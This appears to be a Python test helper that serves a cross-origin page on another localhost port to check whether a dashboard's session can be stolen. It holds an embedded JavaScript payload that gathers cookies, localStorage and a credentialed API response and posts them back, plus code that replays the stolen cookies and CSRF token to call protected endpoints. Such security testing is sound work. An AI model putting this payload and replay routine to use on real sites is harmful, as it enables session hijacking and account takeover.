"""A server at another port of the page's host: it keeps what a browser sends it, and what its script finds there."""

import contextlib
import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from .visitor import Visitor

# What a page of another port may do to get at the dashboard's session.
_SCRIPT = """<!doctype html><title>elsewhere</title><script>
const found = [document.cookie, JSON.stringify({...localStorage}), document.referrer];
fetch("PAGE/api/state", { credentials: "include" }).then((it) => it.text(), String)
  .then((text) => fetch("/found", { method: "POST", body: [...found, text].join("\\n") }))
  .then(() => { document.title = "over"; });
</script>"""


class Eavesdropper:
    """What was sent to *port*: all headers and bodies as one text, and the cookies among them."""

    def __init__(self, port: int) -> None:
        self.port = port
        self.heard = ""

    @property
    def cookies(self) -> dict[str, str]:
        lines = re.findall(r"^cookie: (.+)$", self.heard, re.IGNORECASE | re.MULTILINE)
        return dict(each.split("=", 1) for each in "; ".join(lines).split("; ") if "=" in each)

    def gets_in(self, page: int) -> list[str]:
        """Replay what was heard at the page on port *page*; return what that opened."""
        cookie = "; ".join(f"{name}={value}" for name, value in self.cookies.items())
        visitor, opened = Visitor(page), []
        shown = visitor.get("/", Cookie=cookie)
        csrf = re.search(r'<meta name="csrf" content="([^"]+)">', shown.text)
        for path in ("/api/state", "/api/logs", "/metrics"):
            if visitor.get(path, Cookie=cookie).status == 200:
                opened.append(path)
        body = '{"action": "stop", "watcher": "nobody"}'
        proof = {"X_CSRF_Token": csrf[1]} if csrf else {}
        if visitor.ask("POST", "/api/actions", body, Cookie=cookie, **proof).status not in (401, 403):
            opened.append("/api/actions")
        return opened


@contextlib.contextmanager
def eavesdropping(page: str) -> Iterator[Eavesdropper]:
    """Listen at a port of 127.0.0.1; its page tries to read the dashboard at *page*."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            ear.heard += f"{self.path}\n{self.headers}\n"
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.end_headers()
            self.wfile.write(_SCRIPT.replace("PAGE", page).encode())

        def do_POST(self) -> None:
            ear.heard += self.rfile.read(int(self.headers["content-length"])).decode()
            self.do_GET()

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    ear = Eavesdropper(server.server_port)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield ear
    finally:
        server.shutdown()
        server.server_close()
        thread.join(90)
